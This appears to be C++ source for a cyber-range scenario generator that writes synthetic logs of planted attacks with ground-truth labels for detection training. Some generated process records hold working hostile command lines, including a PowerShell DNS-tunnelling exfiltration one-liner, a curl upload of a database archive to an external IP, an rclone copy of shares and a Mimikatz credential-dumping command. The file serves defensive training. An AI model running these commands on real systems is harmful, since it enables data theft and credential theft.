// Planted network and cloud attacks: C2 beaconing on 4444, exfiltration, malicious inbound NSG
// flows, port scanning, unusual Azure role assignments, VM run-command abuse and a Defender alert.
#include <fmt/core.h>

#include "common/time.h"
#include "range/scenario.h"

namespace quarry::range {
namespace {

bool AzureVm(const Host& h) { return h.azure_vm && !h.nsg.empty(); }
bool ExposedVm(const Host& h) { return h.azure_vm && !h.public_ip.empty(); }
bool LabVm(const Host& h) { return h.resource_group == "cyber-range-admin-soc"; }

FlowSpec Outbound(const Host& vm, std::string_view ip, int port, int flows, int64_t bytes_out) {
  FlowSpec f;
  f.vm = &vm;
  f.flow_type = "ExternalPublic";
  f.direction = 'O';
  f.status = 'A';
  f.port = port;
  f.peer_ip = std::string(ip);
  f.flows = flows;
  f.rule = "DefaultRule_AllowInternetOutBound";
  f.bytes_out = bytes_out;
  f.bytes_in = bytes_out / 20 + 500;
  return f;
}

}  // namespace

void PlantC2Beacon(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"windows-target-1", "web-01", "linux-target-1"}, AzureVm);
  std::string ip = HostingIp(c.rng);
  int64_t interval = c.rng.Between(45, 300) * kTicksPerSecond;
  // Beaconing runs from its start until the end of the range (still active "now").
  int64_t hours = c.rng.Between(6, 30);
  int64_t start = c.range_end - hours * kTicksPerHour;
  Proc implant;
  bool masquerades = false;  // named like the system's svchost.exe, outside System32
  if (host.windows()) {
    Proc svc = c.dev.Resident(host, "services.exe", DayStart(start));
    masquerades = c.rng.Chance(0.5);
    std::string path = masquerades ? R"(C:\ProgramData\Microsoft\Crypto\svchost.exe)" : R"(C:\Users\Public\Libraries\rundll.exe)";
    implant = c.dev.Spawn(svc, path, "\"" + path + "\"", start, c.tag);
  } else {
    Proc systemd = c.dev.Resident(host, "systemd", DayStart(start));
    implant = c.dev.Spawn(systemd, "/tmp/.X11-unix/.kworker", "/tmp/.X11-unix/.kworker -d", start, c.tag);
  }
  int beacons = 0;
  int64_t hour_bucket = -1;
  int in_hour = 0;
  for (int64_t t = start + Seconds(c.rng, 1, 5); t < c.range_end - kTicksPerMinute; ) {
    c.dev.Network(implant, t, "ConnectionSuccess", ip, 4444, "", "Tcp", c.tag);
    ++beacons;
    int64_t bucket = FloorDiv(t, kTicksPerHour);
    if (bucket != hour_bucket) {
      if (hour_bucket >= 0 && host.azure_vm) {
        c.cloud.Flow(Outbound(host, ip, 4444, in_hour, in_hour * 700), hour_bucket * kTicksPerHour + kTicksPerMinute, c.tag);
      }
      hour_bucket = bucket;
      in_hour = 0;
    }
    ++in_hour;
    int64_t jitter = static_cast<int64_t>((c.rng.Real() - 0.5) * 0.2 * static_cast<double>(interval));
    t += interval + jitter;
  }
  r.name = fmt::format("C2 beacon from {} to {}:4444 every ~{}s ({} connections)", host.name, ip,
                       interval / kTicksPerSecond, beacons);
  r.techniques = {"T1071.001", "T1571"};
  if (masquerades) r.techniques.push_back("T1036.005");
  r.description = "A process in an unusual location calls one internet address on port 4444 at a "
                  "steady interval, and keeps doing so up to now.";
  c.AddHost(host.name);
  c.AddIp(ip);
  c.AddProcess(implant.file_name);
}

void PlantExfiltration(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  bool dns = c.rng.Chance(0.5);
  int64_t t = c.PickStart(2 * kTicksPerHour);
  if (dns) {
    const Host& host = c.PickHost({"ws-30", "ws-22"}, [](const Host& h) { return h.windows() && !h.server(); });
    Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
    if (host.primary_user >= 0) {
      c.AddUser(c.world.users[host.primary_user].account);
    }
    static const char* const kDomains[] = {"cdn-telemetry.net", "update-check.org", "msft-sync.info", "static-assets.cc"};
    std::string domain = kDomains[c.rng.Below(std::size(kDomains))];
    Proc ps = c.dev.Spawn(explorer, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                          R"(powershell.exe -nop -w hidden -c "gc C:\Users\Public\data.zip -Encoding Byte -ReadCount 30 | % { Resolve-DnsName (([BitConverter]::ToString($_) -replace '-','') + '.)" + domain + R"(') -Type TXT }")",
                          t, c.tag);
    const std::string& dns_server = c.world.dns_servers[0];
    int queries = static_cast<int>(c.rng.Between(300, 700));
    int64_t qt = t + Seconds(c.rng, 1, 3);
    for (int i = 0; i < queries; ++i) {
      qt += c.rng.Between(150, 2500) * kTicksPerMillisecond;
      c.dev.Network(ps, qt, "ConnectionSuccess", dns_server, 53, c.rng.Hex(60) + "." + domain, "Udp", c.tag);
    }
    r.name = fmt::format("DNS tunnelling exfiltration from {}: {} TXT lookups of *.{}", host.name, queries, domain);
    r.techniques = {"T1048.003", "T1071.004"};
    r.description = "A script splits a file into hex chunks and leaks them as subdomains of one "
                    "attacker domain: hundreds of unique long DNS names in minutes.";
    c.AddHost(host.name);
    c.AddProcess("powershell.exe");
    c.AddFile(domain);
  } else {
    const Host& host = c.PickHost({"fileserver-1", "sql-01", "windows-target-1"}, AzureVm);
    std::string ip = HostingIp(c.rng);
    bool linux = !host.windows();
    Proc parent = c.dev.Resident(host, linux ? "bash" : "explorer.exe", DayStart(t));
    Proc tool = linux ? c.dev.Spawn(parent, "/usr/bin/curl", fmt::format("curl -s -k -X POST -T /tmp/db.tar.gz https://{}/upload", ip), t, c.tag)
                      : c.dev.Spawn(parent, R"(C:\Users\Public\rclone.exe)",
                                    fmt::format("rclone.exe copy D:\\Shares remote:backup-{} --transfers 16 --no-check-certificate", c.rng.Hex(4)), t, c.tag);
    int conns = static_cast<int>(c.rng.Between(60, 200));
    int64_t ct = t + Seconds(c.rng, 2, 5);
    for (int i = 0; i < conns; ++i) {
      ct += Seconds(c.rng, 2, 20);
      c.dev.Network(tool, ct, "ConnectionSuccess", ip, 443, "", "Tcp", c.tag);
    }
    int64_t total = c.rng.Between(3, 12) * 1'000'000'000LL;
    int64_t hours = (ct - t) / kTicksPerHour + 1;
    for (int64_t h = 0; h < hours; ++h) {
      c.cloud.Flow(Outbound(host, ip, 443, conns / static_cast<int>(hours) + 1, total / hours), t + h * kTicksPerHour, c.tag);
    }
    r.name = fmt::format("HTTPS exfiltration of ~{} GB from {} to {}", total / 1'000'000'000LL, host.name, ip);
    r.techniques = {"T1048", "T1567.002"};
    r.description = "A sync or upload tool moves gigabytes to one external address, far above the host's usual outbound volume.";
    c.AddHost(host.name);
    c.AddIp(ip);
    c.AddProcess(tool.file_name);
  }
}

void PlantMaliciousInbound(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"linux-target-1", "windows-target-1"}, ExposedVm);
  int sources = static_cast<int>(c.rng.Between(2, 5));
  int64_t t = c.PickStart(4 * kTicksPerHour);
  int port = host.windows() ? 3389 : 22;
  int hours = static_cast<int>(c.rng.Between(2, 4));
  std::vector<std::string> ips;
  for (int i = 0; i < sources; ++i) ips.push_back(HostingIp(c.rng));
  for (int h = 0; h < hours; ++h) {
    FlowSpec f;
    f.vm = &host;
    f.flow_type = "MaliciousFlow";
    f.direction = 'I';
    f.status = 'A';
    f.port = port;
    f.public_ips = ips;
    f.peer_ip = ips[0];
    f.flows = static_cast<int>(c.rng.Between(40, 300));
    f.rule = port == 3389 ? "UserRule_AllowAnyRDPInbound" : "UserRule_AllowAnySSHInbound";
    f.country = ForeignLocations()[c.rng.Below(ForeignLocations().size())].country;
    f.bytes_out = 3000 * f.flows;
    f.bytes_in = 5000 * f.flows;
    c.cloud.Flow(f, t + h * kTicksPerHour, c.tag);
  }
  for (const auto& ip : ips) c.AddIp(ip);
  r.name = fmt::format("Allowed inbound flows from {} known-malicious IPs to {}:{}", sources, host.name, port);
  r.techniques = {"T1133", "T1110"};
  r.description = "Traffic Analytics flags sources on threat intelligence as MaliciousFlow, and "
                  "the NSG allows them to the exposed management port for hours.";
  c.AddHost(host.name);
}

void PlantPortScan(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"linux-target-1", "web-01", "windows-target-1"}, ExposedVm);
  std::string ip = HostingIp(c.rng);
  int ports = static_cast<int>(c.rng.Between(40, 150));
  int64_t t = c.PickStart(kTicksPerHour);
  int base = static_cast<int>(c.rng.Between(1, 1000));
  for (int i = 0; i < ports; ++i) {
    FlowSpec f;
    f.vm = &host;
    f.flow_type = "ExternalPublic";
    f.direction = 'I';
    f.status = 'D';
    f.port = base + i * static_cast<int>(c.rng.Between(1, 40));
    f.peer_ip = ip;
    f.flows = 1;
    f.rule = "DefaultRule_DenyAllInBound";
    f.country = ForeignLocations()[c.rng.Below(ForeignLocations().size())].country;
    f.bytes_out = 60;
    c.cloud.Flow(f, t + i * 200 * kTicksPerMillisecond, c.tag);
  }
  r.name = fmt::format("Port scan of {} from {}: {} ports in minutes", host.name, ip, ports);
  r.techniques = {"T1046", "T1595.001"};
  r.description = "One internet address probes many destination ports of one VM; the NSG denies them.";
  c.AddHost(host.name);
  c.AddIp(ip);
}

void PlantRoleAssignment(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const User& caller = c.compromised_users.empty() ? c.PickUser(false)
                                                   : c.world.users[c.compromised_users[c.rng.Below(c.compromised_users.size())]];
  std::string ip = HostingIp(c.rng);
  int64_t t = c.PickStart(kTicksPerHour);
  std::string role = c.rng.Chance(0.6) ? "Owner" : "User Access Administrator";
  std::string scope = "/subscriptions/" + c.world.subscription_id;
  if (c.rng.Chance(0.5)) scope += "/resourceGroups/CYBER-RANGE-ADMIN-SOC";
  std::string assignment = c.rng.Guid();
  nlohmann::ordered_json props{{"requestbody", fmt::format(R"({{"Id":"{}","Properties":{{"PrincipalId":"{}","PrincipalType":"User","RoleDefinitionId":"/providers/Microsoft.Authorization/roleDefinitions/{}","Scope":"{}"}}}})",
                                                          assignment, caller.object_id, role == "Owner" ? "8e3af657-a8ff-443c-a75c-2fe8c4bcb635" : "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9", scope)}};
  c.cloud.Activity(t, caller.upn, ip, "Microsoft.Authorization/roleAssignments/write", "Create role assignment", "cyber-range-admin-soc",
                   scope + "/providers/Microsoft.Authorization/roleAssignments/" + assignment, true, c.tag, props);
  r.name = fmt::format("{} role assigned by unusual caller {} from {}", role, caller.upn, ip);
  r.techniques = {"T1098.003"};
  r.description = "A user who never administers Azure grants a privileged role from a hosting-provider address.";
  c.AddUser(caller.upn);
  c.AddIp(ip);
}

void PlantRunCommand(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& vm = c.PickHost({"windows-target-1", "linux-target-1", "vm-final-lab-pr"}, LabVm);
  bool unusual_user = c.rng.Chance(0.5) || c.compromised_users.empty();
  const User& caller = unusual_user ? c.PickUser(false) : c.world.users[c.compromised_users[0]];
  std::string ip = HostingIp(c.rng);
  int64_t t = c.PickStart(kTicksPerHour);
  c.cloud.Activity(t, caller.upn, ip, "Microsoft.Compute/virtualMachines/runCommand/action",
                   "Run Command on Virtual Machine", vm.resource_group, c.cloud.VmResourceId(vm), true, c.tag);
  int64_t pt = t + Seconds(c.rng, 15, 60);
  if (vm.windows()) {
    Proc svc = c.dev.Resident(vm, "services.exe", DayStart(t));
    Proc ext = c.dev.Spawn(svc, R"(C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\bin\RunCommandExtension.exe)",
                           R"("C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\bin\RunCommandExtension.exe" -enable)", pt, c.tag);
    c.dev.Spawn(ext, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                R"(powershell -ExecutionPolicy Unrestricted -File C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\Downloads\script0.ps1)",
                pt + Seconds(c.rng, 1, 3), c.tag);
    c.AddProcess("RunCommandExtension.exe");
    c.AddFile("script0.ps1");
  } else {
    Proc systemd = c.dev.Resident(vm, "systemd", DayStart(t));
    Proc agent = c.dev.Spawn(systemd, "/usr/bin/python3.10", "python3 -u bin/WALinuxAgent-2.9.1.1-py3.8.egg -run-exthandlers", pt, c.tag);
    c.dev.Spawn(agent, "/usr/bin/bash", "/bin/sh /var/lib/waagent/run-command/download/0/script.sh", pt + Seconds(c.rng, 1, 3), c.tag);
    c.AddFile("script.sh");
  }
  r.name = fmt::format("VM run command on {} by {} from {}", vm.name, caller.upn, ip);
  r.techniques = {"T1651"};
  r.description = "The Azure control plane's Run Command executes a script inside a VM, invoked by an identity that does not run VM operations.";
  c.AddHost(vm.name);
  c.AddUser(caller.upn);
  c.AddIp(ip);
}

void PlantDefenderAlert(ScenarioContext& c) {
  TruthRecord& r = *c.record;
  const Host& host = c.PickHost({"windows-target-1", "vm-final-lab-pr", "ws-22"},
                                [](const Host& h) { return h.windows(); });
  int64_t t = c.PickStart(kTicksPerHour);
  const User& u = host.primary_user >= 0 ? c.world.users[host.primary_user] : c.PickUser(false);
  std::string tool = c.rng.Chance(0.5) ? "mimikatz.exe" : "m64.exe";
  std::string folder = fmt::format(R"(C:\Users\{}\Downloads)", u.account);
  Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
  explorer.account = DomainAccount(c.world, u);
  Proc p = c.dev.SpawnAs(explorer, folder + "\\" + tool, tool + " \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                         explorer.account, "High", t, c.tag);
  uint64_t serial = c.rng.Below(2000000000);
  std::string id = "da" + c.rng.Hex(18) + "_" + std::to_string(serial);
  std::string title = "'Mimikatz' credential theft tool was detected";
  std::string tech = R"j(["Credential Dumping (T1003)","OS Credential Dumping: LSASS Memory (T1003.001)"])j";
  int64_t at = t + Seconds(c.rng, 20, 120);
  c.cloud.AlertInfo(at, id, title, "CredentialAccess", "High", tech, c.tag);
  Row& m = c.cloud.AlertEvidence(at, id, title, "CredentialAccess", tech, "Machine", "Impacted", c.tag);
  m.Set("DeviceId", host.device_id).Set("DeviceName", host.name).Set("LocalIP", host.private_ip);
  Row& f = c.cloud.AlertEvidence(at, id, title, "CredentialAccess", tech, "File", "Related", c.tag);
  f.Set("FileName", tool).Set("FolderPath", folder).Set("SHA1", FakeDigest(folder + tool + "#sha1", 40))
      .Set("DeviceName", host.name).Set("ThreatFamily", "Mimikatz");
  Row& pr = c.cloud.AlertEvidence(at, id, title, "CredentialAccess", tech, "Process", "Related", c.tag);
  pr.Set("FileName", tool).Set("ProcessCommandLine", p.command_line).Set("DeviceName", host.name);
  Row& a = c.cloud.AlertEvidence(at, id, title, "CredentialAccess", tech, "User", "Impacted", c.tag);
  a.Set("AccountName", u.account).Set("AccountDomain", c.world.netbios).Set("AccountSid", u.sid)
      .Set("AccountUpn", u.upn).Set("AccountObjectId", u.object_id);
  r.name = "Defender alert: " + title + " on " + host.name;
  r.techniques = {"T1003.001", "T1003"};
  r.description = "Defender for Endpoint raises a High alert for a credential theft tool; AlertInfo "
                  "and AlertEvidence name the machine, file, process and user.";
  c.AddHost(host.name);
  c.AddUser(u.account);
  c.AddUser(u.upn);
  c.AddIp(host.private_ip);
  c.AddProcess(tool);
  c.AddFile(tool);
}

}  // namespace quarry::range
